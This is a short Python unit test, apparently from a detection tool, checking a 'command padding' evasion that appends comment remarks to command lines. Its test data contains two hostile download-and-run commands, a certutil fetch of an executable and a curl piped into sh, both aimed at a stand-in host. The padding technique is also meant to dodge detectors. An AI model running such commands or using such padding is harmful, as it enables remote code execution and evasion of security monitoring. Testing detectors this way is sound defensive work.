from __future__ import annotations

from random import Random

from vedette.testing.commands import commands
from vedette.trust.evasions.command_padding import LINE, CommandPadding


def test_the_command_stays_and_remarks_follow() -> None:
    lines = ["certutil -urlcache -f http://192.0.2.7/a C:\\a.exe", "curl http://192.0.2.7/x.sh | sh"]
    events = commands(lines).frame
    made = CommandPadding().rewrite(events, Random(1))[LINE].to_list()
    assert all(new.startswith(old) and len(new) > len(old) + 20 for old, new in zip(lines, made, strict=True))
    assert made[0].count("& rem") == 3
    assert made[1].count("# ") == 3
